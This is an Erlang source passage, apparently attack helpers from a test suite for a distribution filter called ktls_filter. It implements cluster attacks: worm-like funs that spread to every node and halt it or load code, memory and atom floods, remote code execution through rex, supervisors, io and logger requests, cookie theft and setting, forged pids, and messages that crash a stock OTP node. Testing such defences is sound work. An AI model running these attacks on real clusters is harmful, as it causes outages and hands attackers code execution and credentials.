%% The talk's funs: each marks the node it runs on, spreads itself to every
%% node this one knows, then does its damage.
attack_fun(halt_all_fun, Dir) -> halt_all_fun(Dir);
attack_fun(shutdown_dist_fun, Dir) -> shutdown_dist_fun(Dir);
attack_fun({load_code_fun, Mod, Bin}, Dir) -> load_code_fun(Dir, Mod, Bin).

%% @doc Attack 1: halt every node.
-spec halt_all_fun(file:filename()) -> fun((fun()) -> no_return()).
halt_all_fun(Dir) ->
    fun(F) ->
            mark(Dir, halt_all),
            erpc:multicast(nodes(), erlang, apply, [F, [F]]),
            timer:sleep(200),
            erlang:halt(1)
    end.

%% @doc Attack 2: shut down dist on every node.
-spec shutdown_dist_fun(file:filename()) -> fun((fun()) -> term()).
shutdown_dist_fun(Dir) ->
    fun(F) ->
            mark(Dir, shutdown_dist),
            erpc:multicast(nodes(), erlang, apply, [F, [F]]),
            timer:sleep(200),
            _ = supervisor:terminate_child(kernel_sup, net_sup),
            supervisor:delete_child(kernel_sup, net_sup)
    end.

%% @doc Attack 4: load Mod on every node (once; the talk repeats it forever).
-spec load_code_fun(file:filename(), module(), binary()) -> fun((fun()) -> term()).
load_code_fun(Dir, Mod, Bin) ->
    fun(F) ->
            mark(Dir, load_code),
            {module, Mod} = code:load_binary(Mod, atom_to_list(Mod) ++ ".erl", Bin),
            erpc:multicast(nodes(), erlang, apply, [F, [F]])
    end.

%% @doc Attack 3: one message of N x one 64 MiB binary to the application
%% server on Node; returns the milliseconds the send took.
-spec flood_send(node(), pos_integer()) -> non_neg_integer().
flood_send(Node, N) ->
    Bin = binary:copy(<<$a>>, 64 * ?MIB),
    Msg = lists:duplicate(N, Bin),
    T0 = erlang:monotonic_time(millisecond),
    {ktls_attack_server, Node} ! {flood, Msg},
    erlang:monotonic_time(millisecond) - T0.

%% @doc Attack 3 as calls: N x one 64 MiB binary as the argument of an erpc
%% call and of a gen_server call to Node, one after the other.
-spec flood_calls(node(), pos_integer()) -> map().
flood_calls(Node, N) ->
    Msg = lists:duplicate(N, binary:copy(<<$a>>, 64 * ?MIB)),
    Erpc = bounded(fun() ->
                           try erpc:call(Node, erlang, length, [Msg], infinity)
                           catch C:R -> {C, R}
                           end
                   end, 60000),
    Call = bounded(fun() -> gen_server:call({ktls_attack_server, Node}, {echo, Msg}, infinity) end,
                   60000),
    #{erpc => Erpc, gen_call => Call}.

%% @doc Samples erlang:memory(total) every 5 ms, keeping the peak.
-spec start_sampler() -> ok.
start_sampler() ->
    Pid = spawn(fun() -> sample(0) end),
    true = register(ktls_attack_sampler, Pid),
    ok.

sample(Peak) ->
    receive
        {peak, From, Ref} -> From ! {Ref, Peak}, sample(Peak)
    after 5 ->
            sample(max(Peak, erlang:memory(total)))
    end.

-spec sampler_peak() -> non_neg_integer().
sampler_peak() ->
    Ref = make_ref(),
    ktls_attack_sampler ! {peak, self(), Ref},
    receive {Ref, Peak} -> Peak after 5000 -> error(sampler) end.

%% @doc Peak resident set size of this OS process, bytes.
-spec vm_hwm() -> non_neg_integer().
vm_hwm() ->
    {ok, Status} = file:read_file("/proc/self/status"),
    {match, [Kb]} = re:run(Status, "VmHWM:\\s+(\\d+) kB", [{capture, all_but_first, list}]),
    list_to_integer(Kb) * 1024.

%% @doc code_server's protocol by hand: {code_call, Pid, Request}.
-spec code_server_load(node(), module(), binary()) -> no_reply | {reply, term()}.
code_server_load(Node, Mod, Bin) ->
    {code_server, Node} ! {code_call, self(), {load_binary, Mod, atom_to_list(Mod), Bin}},
    receive {code_server, Reply} -> {reply, Reply} after 1000 -> no_reply end.

%% @doc Attack 5 and its variants; a map of what each caller got.
-spec rex_attacks(file:filename(), node(), pid()) -> map().
rex_attacks(Dir, Node, RexPid) ->
    Fun = fun() -> mark(Dir, rex) end,
    GL = group_leader(),
    Cast = {'$gen_cast', {cast, erlang, apply, [Fun, []], GL}},
    {rex, Node} ! Cast,
    RexPid ! Cast,
    {rex, Node} ! {'$gen_cast', {cast, os, putenv, ["KTLS_ATTACK", "rex"], GL}},
    #{rpc_call => bounded(fun() -> rpc:call(Node, erlang, apply, [Fun, []]) end, ?FAST_MS),
      rpc_block_call =>
          bounded(fun() -> rpc:block_call(Node, erlang, apply, [Fun, []]) end, ?FAST_MS),
      gen_call_rex =>
          bounded(fun() -> gen_server:call({rex, Node}, {call, erlang, apply, [Fun, []], GL},
                                           infinity)
                  end, ?FAST_MS),
      gen_call_rex_pid =>
          bounded(fun() -> gen_server:call(RexPid, {call, erlang, apply, [Fun, []], GL}, infinity)
                  end, ?FAST_MS),
      rpc_cast => rpc:cast(Node, erlang, apply, [Fun, []])}.

%% @doc Attack 6: supervisor:start_child/2 of a child spec that runs a fun;
%% to {kernel_sup, Node}, then to each supervisor pid, then an old-style
%% spec tuple to the last one. Each result as bounded/2 gives it.
-spec start_child_attacks(file:filename(), node(), [pid()]) -> [term()].
start_child_attacks(Dir, Node, Sups) ->
    GL = group_leader(),
    GlFun = fun() -> group_leader(GL, self()), mark(Dir, start_child), ignore end,
    Spec = #{id => make_ref(), start => {erlang, apply, [GlFun, []]}, restart => temporary},
    Start = fun(Sup, S) -> bounded(fun() -> supervisor:start_child(Sup, S) end, ?FAST_MS) end,
    Old = {make_ref(), {erlang, apply, [GlFun, []]}, temporary, 1000, worker, []},
    [Start({kernel_sup, Node}, Spec)] ++ [Start(Sup, Spec) || Sup <- Sups] ++
        [Start(lists:last(Sups), Old)].

%% @doc Attack 7: io requests that make the io server run a fun, to each of
%% Servers (registered names on Node or pids) and, through erl_scan's
%% reserved_word_fun, to the first. Each sender's io_reply.
-spec io_attacks(file:filename(), node(), [atom() | pid()]) -> [term()].
io_attacks(Dir, Node, Servers) ->
    IoFun = fun() -> mark(Dir, io_request), <<>> end,
    ScanFun = fun(_) -> mark(Dir, io_request_erl_scan), false end,
    Apply = {put_chars, unicode, erlang, apply, [IoFun, []]},
    Scan = {put_chars, unicode, erl_scan, string, ["a b", 1, [{reserved_word_fun, ScanFun}]]},
    Dest = fun(S) when is_atom(S) -> {S, Node};
              (P) -> P
           end,
    [io_request(Dest(S), Apply) || S <- Servers] ++
        [io_request(Dest(hd(Servers)), {requests, [Apply]}),
         io_request(Dest(lists:last(Servers)), Scan),
         io_request(Dest(lists:last(Servers)), {put_chars, unicode, os, cmd, ["true"]})].

%% @doc An io request to Node's standard_error that calls a function, sent
%% from here on behalf of a process and a reference of Third.
-spec third_node_io_request(file:filename(), node(), node()) -> ok.
third_node_io_request(Dir, Node, Third) ->
    From = erpc:call(Third, erlang, whereis, [init]),
    Ref = erpc:call(Third, erlang, make_ref, []),
    IoFun = fun() -> mark(Dir, io_request_third_node), <<>> end,
    {standard_error, Node} ! {io_request, From, Ref, {put_chars, unicode, erlang, apply, [IoFun, []]}},
    ok.

%% @doc The backdoors of otp_server_backdoors/1 against Node, each fun
%% marking under its own name; the disconnects last.
-spec backdoors(file:filename(), node(), module(), binary()) -> map().
backdoors(Dir, Node, Mod, Bin) ->
    GL = group_leader(),
    Fun = fun(What) -> fun() -> mark(Dir, What) end end,
    Spec = #{id => make_ref(), start => {erlang, apply, [Fun(relay_start_child), []]},
             restart => temporary},
    Call = fun(Dest, Req) -> bounded(fun() -> gen_server:call(Dest, Req, infinity) end, ?FAST_MS)
           end,
    Self = self(),
    Ref = make_ref(),
    NetKernel = {net_kernel, Node},
    Rex = {rex, Node},
    %% first: on a stock node the later ones leave its logger in no state
    %% to format anything
    {logger_proxy, Node} !
        {log, notice, #{ktls_attack => report},
         #{report_cb => fun(_) -> mark(Dir, logger_report_cb), {"ktls attack", []} end,
           time => logger:timestamp()}},
    receive after 300 -> ok end,
    NkSpawn = Call(NetKernel, {spawn, erlang, apply, [Fun(net_kernel_spawn), []], GL}),
    NetKernel ! {Self, registered_send, kernel_sup, {'$gen_call', {Self, Ref}, {start_child, Spec}}},
    StartChild = receive {Ref, Reply} -> Reply after 2000 -> no_reply end,
    NetKernel ! {Self, registered_send, code_server,
                 {code_call, Self, {load_binary, Mod, atom_to_list(Mod), Bin}}},
    CodeServer = receive {code_server, CReply} -> CReply after 2000 -> no_reply end,
    Rex ! {node(), {call, erlang, apply, [Fun(rex_hidden_call), []], GL}},
    Rex ! {Self, {sbcast, rex, {'$gen_cast', {cast, erlang, apply, [Fun(rex_sbcast), []], GL}}}},
    Rex ! {Self, {send, rex, {call, erlang, apply, [Fun(rex_send), []], GL}}},
    Registrar = Call({global_name_server, Node},
                     {registrar, fun(_Nodes) -> mark(Dir, global_registrar) end}),
    Resolve = fun(_Name, _Pid1, _Pid2) -> mark(Dir, global_resolver), none end,
    Resolver = Call({global_name_server, Node}, {register, {ktls_attack_clash, node()}, Self, Resolve}),
    ReplaceState = bounded(fun() ->
                                   sys:replace_state({ktls_attack_server, Node},
                                                     fun(St) -> mark(Dir, replace_state), St end)
                           end, ?FAST_MS),
    Suspend = bounded(fun() -> sys:suspend({ktls_attack_server, Node}) end, ?FAST_MS),
    _ = bounded(fun() -> sys:resume({ktls_attack_server, Node}) end, ?FAST_MS),
    Io = gen_server:call({ktls_attack_server, Node}, {whereis, ktls_attack_io}, ?FAST_MS),
    ExpandFun = fun(_) -> mark(Dir, expand_fun), {no, "", []} end,
    IoSetopts = bounded(fun() -> io:setopts(Io, [{expand_fun, ExpandFun}]) end, ?FAST_MS),
    AddHandler = bounded(fun() -> gen_event:add_handler({ktls_attack_events, Node},
                                                        ktls_attack_server, [])
                         end, ?FAST_MS),
    receive after 500 -> ok end,
    #{net_kernel_spawn => NkSpawn, relay_start_child => StartChild, relay_code_server => CodeServer,
      global_registrar => Registrar, global_resolver => Resolver, replace_state => ReplaceState,
      sys_suspend => Suspend, io_setopts => IoSetopts, add_handler => AddHandler}.

%% @doc The disconnects of otp_server_backdoors/1: global's (from every
%% node), net_kernel's call and cast, all for this node.
-spec disconnects(node()) -> map().
disconnects(Node) ->
    Call = fun(Dest, Req) -> bounded(fun() -> gen_server:call(Dest, Req, infinity) end, ?FAST_MS)
           end,
    GlobalDisconnect = Call({global_name_server, Node}, disconnect),
    NkDisconnect = Call({net_kernel, Node}, {disconnect, node()}),
    gen_server:cast({net_kernel, Node}, {async_disconnect, node()}),
    #{global_disconnect => GlobalDisconnect, net_kernel_disconnect => NkDisconnect}.

io_request(Dest, Request) ->
    Ref = make_ref(),
    Dest ! {io_request, self(), Ref, Request},
    receive
        {io_reply, Ref, Reply} -> Reply
    after ?FAST_MS ->
            hung
    end.

%% ------------------------------------------------------------------
%% On the nodes: system processes, forged pids, signals, aliases, atoms,
%% global, ping
%% ------------------------------------------------------------------

%% @doc OTP's system processes of this node, by name (registered names;
%% kernel_config, user_sup, the kernel application master and its child,
%% the literal area collector and, when running, ktls_filter's application
%% master have no name: named after what they are).
-spec system_pids() -> #{atom() => pid()}.
system_pids() ->
    Named = [init, erts_code_purger, erl_prim_loader, logger, application_controller, kernel_sup,
             code_server, inet_db, rex, global_name_server, global_group, net_sup, erl_epmd, auth,
             net_kernel, file_server_2, erl_signal_server, standard_error_sup, standard_error, user,
             kernel_refc, kernel_safe_sup, logger_sup, logger_proxy, logger_handler_watcher,
             socket_registry],
    Children = supervisor:which_children(kernel_sup),
    Child = fun(Id) -> {Id, P, _, _} = lists:keyfind(Id, 1, Children), P end,
    Master = application_controller:get_master(kernel),
    {links, Links} = process_info(Master, links),
    [StartIt] = [P || P <- Links, is_pid(P),
                      process_info(P, initial_call) =:= {initial_call, {application_master, start_it, 4}}],
    [Collector] = [P || P <- processes(),
                        process_info(P, initial_call) =:=
                            {initial_call, {erts_literal_area_collector, start, 0}}],
    Ktls = [{ktls_filter_master, M} || M <- [application_controller:get_master(ktls_filter)], is_pid(M)],
    maps:from_list([{N, whereis(N)} || N <- Named, is_pid(whereis(N))] ++
                       [{kernel_config, Child(kernel_config)}, {user_sup, Child(user)},
                        {kernel_master, Master}, {kernel_master_child, StartIt},
                        {literal_collector, Collector} | Ktls]).

%% @doc The pid of a process of Node built from its numbers and the
%% creation of Node's current incarnation (NEW_PID_EXT by hand).
-spec forge_pid(node(), non_neg_integer(), non_neg_integer(), non_neg_integer()) -> pid().
forge_pid(Node, Id, Serial, Creation) ->
    Name = atom_to_binary(Node, utf8),
    Atom = case byte_size(Name) of
               L when L < 256 -> <<119, L:8, Name/binary>>;
               L -> <<118, L:16, Name/binary>>
           end,
    binary_to_term(<<131, 88, Atom/binary, Id:32, Serial:32, Creation:32>>).

%% @doc The creation in a pid's external term format.
-spec creation(pid()) -> non_neg_integer().
creation(Pid) ->
    <<131, 88, Rest/binary>> = term_to_binary(Pid),
    Skip = case Rest of
               <<119, L:8, _/binary>> -> 2 + L;
               <<115, L:8, _/binary>> -> 2 + L;
               <<118, L:16, _/binary>> -> 3 + L;
               <<100, L:16, _/binary>> -> 3 + L
           end,
    <<_:Skip/binary, _Id:32, _Serial:32, Creation:32>> = Rest,
    Creation.

%% @doc Node's creation, from the pid of its application server (any pid
%% of Node an attacker gets would do).
-spec target_creation(node()) -> non_neg_integer().
target_creation(Node) ->
    creation(gen_server:call({ktls_attack_server, Node}, self_pid, ?FAST_MS)).

%% Name => destination: {Name, Node}, the pid, or a pid built here.
dests(Node, name, Info) ->
    maps:map(fun(N, _) -> {N, Node} end, Info);
dests(_Node, pid, Info) ->
    Info;
dests(Node, forged, Info) ->
    Creation = target_creation(Node),
    maps:map(fun(_, {Id, Serial}) -> forge_pid(Node, Id, Serial, Creation) end, Info).

%% @doc Runs each {Key, Fun} (or {Key, Fun, Ms}) in a process of its own,
%% all at once; Key => what bounded/2 gives (Ms ?FAST_MS unless given).
-spec parallel([{term(), fun(() -> term())} | {term(), fun(() -> term()), timeout()}]) -> map().
parallel(Jobs) ->
    Self = self(),
    Tag = make_ref(),
    Keys = [begin
                {K, F, Ms} = case Job of
                                 {K0, F0} -> {K0, F0, ?FAST_MS};
                                 {_, _, _} -> Job
                             end,
                _ = spawn(fun() -> Self ! {Tag, K, bounded(F, Ms)} end),
                K
            end || Job <- Jobs],
    maps:from_list([receive {Tag, K, R} -> {K, R} after 60000 -> {K, lost} end || K <- Keys]).

%% @doc pid_bypass/1's requests to Node's system processes, addressed How
%% (Info: see dest_info/2), all at once; Key => what each caller got, and
%% dests => the destinations used. Suspended kernel_refc is resumed.
-spec system_attacks(file:filename(), node(), name | pid | forged, map(), {module(), binary()}) -> map().
system_attacks(Dir, Node, How, Info, {Mod, Bin}) ->
    Dests = dests(Node, How, Info),
    D = fun(N) -> maps:get(N, Dests) end,
    Call = fun(N, Req) -> fun() -> gen_server:call(D(N), Req, infinity) end end,
    File = filename:join(Dir, "file_server_" ++ atom_to_list(How) ++ "@" ++ atom_to_list(Node)),
    Children = fun() ->
                       [bounded(Call(kernel_sup, {Op, kernel_config}), ?FAST_MS)
                        || Op <- [terminate_child, restart_child, delete_child]]
               end,
    CodeCall = fun() ->
                       D(code_server) ! {code_call, self(),
                                         {load_binary, Mod, atom_to_list(Mod) ++ ".erl", Bin}},
                       receive {code_server, Reply} -> {reply, Reply} after 1000 -> no_reply end
               end,
    InitCall = fun() ->
                       D(init) ! {self(), get_arguments},
                       receive {init, Args} -> {reply, Args} after 1000 -> no_reply end
               end,
    R = parallel([{write_file, Call(file_server_2, {write_file, File, <<"ktls">>})},
                  {read_file, Call(file_server_2, {read_file, "/proc/self/cmdline"})},
                  {code_load, CodeCall},
                  {set_env, Call(application_controller, {set_env, kernel, ktls_attack_env, How, []})},
                  {which_applications, Call(application_controller, which_applications)},
                  {get_cookie, Call(auth, get_our_cookie)},
                  {set_cookie, Call(auth, {set_our_cookie, ktls_evil_cookie})},
                  {add_host, Call(inet_db, {add_host, evil_ip(How), [evil_host(How)]})},
                  {which_children, Call(kernel_sup, which_children)},
                  {children, Children, 3 * ?FAST_MS + 1000},
                  {get_status, fun() -> sys:get_status(D(file_server_2)) end},
                  {suspend, fun() -> sys:suspend(D(kernel_refc)) end},
                  {add_handler, fun() -> gen_event:add_handler(D(erl_signal_server), ?EVIL_HANDLER, [])
                                end},
                  {which_handlers, fun() -> gen_event:which_handlers(D(erl_signal_server)) end},
                  {init_get_arguments, InitCall}]),
    _ = case maps:get(suspend, R) of
            {ok, ok} -> bounded(fun() -> sys:resume(D(kernel_refc)) end, ?FAST_MS);
            _ -> ok
        end,
    Ops = case maps:get(children, R) of
              {ok, [Te, Re, De]} -> #{terminate_child => Te, restart_child => Re, delete_child => De};
              Other -> #{terminate_child => Other, restart_child => Other, delete_child => Other}
          end,
    maps:merge(maps:remove(children, R), Ops#{dests => Dests}).

%% @doc auth's handler of messages from nodes with another cookie
%% (auth.erl handle_info/2): for {From, badcookie, net_kernel, {From,
%% spawn, M, F, A, GL}} it disconnects node(From), whoever From is.
-spec auth_badcookie(node(), name | pid | forged, map(), pid()) -> ok.
auth_badcookie(Node, How, Info, From) ->
    Auth = maps:get(auth, dests(Node, How, maps:with([auth], Info))),
    Auth ! {From, badcookie, net_kernel, {From, spawn, erlang, node, [], group_leader()}},
    ok.

%% @doc Messages that halt a stock OTP 25 node (Which: all, or the keys to
%% send): auth's badcookie message for a name it does not know (auth
%% crashes: its state is not the list it takes it for; net_sup and
%% kernel_sup give up), {'EXIT', AppCtrl, kill} to init (a kernel process
%% "died": init halts), {'EXIT', Parent, kill} to kernel_safe_sup,
%% {'EXIT', Child, kill} to kernel_sup (restart intensity 0), {stop, stop}
%% to init, and with all sys:terminate/3 of kernel_refc, whose result is
%% returned. Data: the pids the messages name.
-spec halting_attacks(node(), name | pid | forged, map(), map(), all | [atom()]) -> map().
halting_attacks(Node, How, Info, Data, Which) ->
    Dests = dests(Node, How, Info),
    D = fun(N) -> maps:get(N, Dests) end,
    P = fun(N) -> maps:get(N, Data) end,
    Sends = [{auth_crash, fun() -> D(auth) ! {self(), badcookie, ktls_attack_nobody, {ktls}} end},
             {init_exit, fun() -> D(init) ! {'EXIT', P(application_controller), kill} end},
             {safe_sup_parent_exit, fun() -> D(kernel_safe_sup) ! {'EXIT', P(kernel_sup), kill} end},
             {kernel_sup_child_exit, fun() -> D(kernel_sup) ! {'EXIT', P(kernel_config), kill} end},
             {init_stop, fun() -> D(init) ! {stop, stop} end}],
    _ = [F() || {K, F} <- Sends, Which =:= all orelse lists:member(K, Which)],
    case Which of
        all -> #{sys_terminate => bounded(fun() -> sys:terminate(D(kernel_refc), kill, 2000) end,
                                          ?FAST_MS)};
        _ -> #{}
    end.

%% @doc The group leader of each process (dead if it is gone).
-spec group_leaders(#{atom() => pid()}) -> #{atom() => pid() | dead}.
group_leaders(Pids) ->
    maps:map(fun(_, P) ->
                     case process_info(P, group_leader) of
                         {group_leader, G} -> G;
                         undefined -> dead
                     end
             end, Pids).

%% @doc The names of the processes linked to Pid.
-spec linked_to(#{atom() => pid()}, pid()) -> [atom()].
linked_to(Pids, Pid) ->
    lists:sort([K || {K, P} <- maps:to_list(Pids), {links, Ls} <- [process_info(P, links)],
                     lists:member(Pid, Ls)]).

-spec alive(#{atom() => pid()}) -> #{atom() => boolean()}.
alive(Pids) ->
    maps:map(fun(_, P) -> is_process_alive(P) end, Pids).

%% @doc group_leader/2: this node's application server becomes the group
%% leader of each of Pids.
-spec signal_group_leader([pid()]) -> ok.
signal_group_leader(Pids) ->
    Leader = whereis(ktls_attack_server),
    _ = [group_leader(Leader, P) || P <- Pids],
    ok.

%% @doc A process linked to each of Pids; it exits when stop_linker/2 says.
-spec start_linker([pid()]) -> pid().
start_linker(Pids) ->
    Parent = self(),
    Ref = make_ref(),
    L = spawn(fun() ->
                      _ = [link(P) || P <- Pids],
                      Parent ! {Ref, linked},
                      receive {die, Reason} -> exit(Reason) end
              end),
    receive {Ref, linked} -> L after ?FAST_MS -> error(linker) end.

-spec stop_linker(pid(), term()) -> ok.
stop_linker(L, Reason) ->
    MRef = monitor(process, L),
    L ! {die, Reason},
    receive {'DOWN', MRef, process, L, _} -> ok after ?FAST_MS -> error(linker_stop) end.

-spec signal_exit([pid()], term()) -> ok.
signal_exit(Pids, Reason) ->
    _ = [exit(P, Reason) || P <- Pids],
    ok.

%% @doc exit/2 to pids of Node built here from {Name, {Id, Serial}}; the
%% pids built.
-spec signal_exit_forged(node(), [{atom(), {non_neg_integer(), non_neg_integer()}}], term()) ->
          [{atom(), pid()}].
signal_exit_forged(Node, Ids, Reason) ->
    Creation = target_creation(Node),
    Pids = [{K, forge_pid(Node, Id, Serial, Creation)} || {K, {Id, Serial}} <- Ids],
    _ = [exit(P, Reason) || {_, P} <- Pids],
    Pids.

%% @doc Sends Dest one message of each shape of ?ALIAS_KINDS, the replies
%% with Tag (a reference of Dest's node: a reply to a call made there);
%% what came back within 500 ms.
-spec alias_sends(reference() | pid() | {atom(), node()}, reference()) -> [term()].
alias_sends(Dest, Tag) ->
    Self = self(),
    Ref = make_ref(),
    Shapes = [{'$gen_call', {Self, Ref}, ktls_alias},
              {'$gen_call', {Self, [alias | Ref]}, ktls_alias},
              {'$gen_cast', ktls_alias},
              {system, {Self, Ref}, get_status},
              {'EXIT', Self, ktls_alias},
              {'DOWN', Ref, process, Self, ktls_alias},
              {io_request, Self, Ref, {put_chars, unicode, "ktls_alias"}},
              {code_call, Self, ktls_alias},
              {Tag, ktls_alias},
              {[alias | Tag], ktls_alias},
              {ktls_alias, hello}],
    _ = [Dest ! M || M <- Shapes],
    collect(500).

collect(Ms) ->
    receive M -> [M | collect(Ms)]
    after Ms -> []
    end.

%% @doc A gen_server call from here to the application server of Node.
-spec echo_call(node(), term()) -> {ok, term()} | {exit, term()} | hung.
echo_call(Node, Term) ->
    bounded(fun() -> gen_server:call({ktls_attack_server, Node}, {echo, Term}, ?FAST_MS) end,
            2 * ?FAST_MS).

%% @doc Atoms Prefix ++ integer_to_list(I), From =< I < To, made here and
%% sent to Node's application server, PerMsg a message; stops when Node is
%% gone. Then a call to the server (all sent before it has arrived).
-spec atom_flood(node(), string(), non_neg_integer(), non_neg_integer(), pos_integer()) -> map().
atom_flood(Node, Prefix, From, To, PerMsg) ->
    T0 = erlang:monotonic_time(millisecond),
    Sent = atom_chunks(Node, Prefix, From, To, PerMsg, 0),
    Sync = bounded(fun() -> gen_server:call({ktls_attack_server, Node}, {echo, synced}, 20000) end,
                   25000),
    #{sent => Sent, ms => erlang:monotonic_time(millisecond) - T0, sync => Sync}.

atom_chunks(_Node, _Prefix, From, To, _PerMsg, Sent) when From >= To ->
    Sent;
atom_chunks(Node, Prefix, From, To, PerMsg, Sent) ->
    case lists:member(Node, nodes()) of
        false ->
            Sent;
        true ->
            Last = min(From + PerMsg, To),
            Atoms = [list_to_atom(Prefix ++ integer_to_list(I)) || I <- lists:seq(From, Last - 1)],
            {ktls_attack_server, Node} ! {ktls_atoms, Atoms},
            atom_chunks(Node, Prefix, Last, To, PerMsg, Sent + length(Atoms))
    end.

%% @doc How many of the atoms of atom_flood/5 exist on this node.
-spec existing_atoms(string(), non_neg_integer(), non_neg_integer()) -> non_neg_integer().
existing_atoms(Prefix, From, To) ->
    lists:foldl(fun(I, N) ->
                        try list_to_existing_atom(Prefix ++ integer_to_list(I)) of
                            _ -> N + 1
                        catch
                            error:badarg -> N
                        end
                end, 0, lists:seq(From, To - 1)).

%% @doc Registers {ktls_big, I, MiB of bytes} for this node's application
%% server with global_name_server on Node by hand (its protocol:
%% {register, Name, Pid, Method}): by name (I = 1), by pid (2), by the pid
%% built from its numbers Ids (3), and as gen_server:multi_call with a
%% timeout (4).
-spec global_big_names(node(), pid(), {non_neg_integer(), non_neg_integer()}, pos_integer()) ->
          map().
global_big_names(Node, GlobalPid, {Id, Serial}, MiB) ->
    Big = binary:copy(<<$g>>, MiB * ?MIB),
    Holder = whereis(ktls_attack_server),
    Method = fun global:random_exit_name/3,
    Reg = fun(Dest, I) ->
                  bounded(fun() ->
                                  gen_server:call(Dest, {register, {ktls_big, I, Big}, Holder, Method},
                                                  infinity)
                          end, 30000)
          end,
    Forged = forge_pid(Node, Id, Serial, target_creation(Node)),
    #{by_name => Reg({global_name_server, Node}, 1),
      by_pid => Reg(GlobalPid, 2),
      by_forged => Reg(Forged, 3),
      forged_pid => Forged,
      multi_call => bounded(fun() ->
                                    gen_server:multi_call([Node], global_name_server,
                                                          {register, {ktls_big, 4, Big}, Holder, Method},
                                                          10000)
                            end, 30000)}.

%% @doc global:register_name/2 of {ktls_big, 5, MiB of bytes}.
-spec global_register_big(pos_integer()) -> {ok, term()} | {exit, term()} | hung.
global_register_big(MiB) ->
    Big = binary:copy(<<$g>>, MiB * ?MIB),
    Holder = whereis(ktls_attack_server),
    bounded(fun() -> global:register_name({ktls_big, 5, Big}, Holder) end, 20000).

%% @doc The I of every {ktls_big, I, _} name global has here.
-spec big_global_names() -> [integer()].
big_global_names() ->
    lists:sort([I || {ktls_big, I, _} <- global:registered_names()]).

%% @doc net_adm:ping(Third) run on Node through erpc, rpc and spawn, and
%% net_adm:ping of N nodes that do not exist; erlang:node() through erpc.
-spec ping_attacks(node(), node(), non_neg_integer()) -> map().
ping_attacks(Node, Third, N) ->
    Nobody = [list_to_atom("ktls_nobody_" ++ integer_to_list(I) ++ "@127.0.0.1")
              || I <- lists:seq(1, N)],
    #{erpc => try_erpc(Node, net_adm, ping, [Third]),
      rpc => bounded(fun() -> rpc:call(Node, net_adm, ping, [Third], ?FAST_MS) end, 2 * ?FAST_MS),
      spawn => bounded(fun() ->
                               {P, M} = spawn_monitor(Node, net_adm, ping, [Third]),
                               receive {'DOWN', M, process, P, Why} -> Why end
                       end, ?FAST_MS),
      nobody => [try_erpc(Node, net_adm, ping, [X]) || X <- Nobody],
      node => try_erpc(Node, erlang, node, [])}.
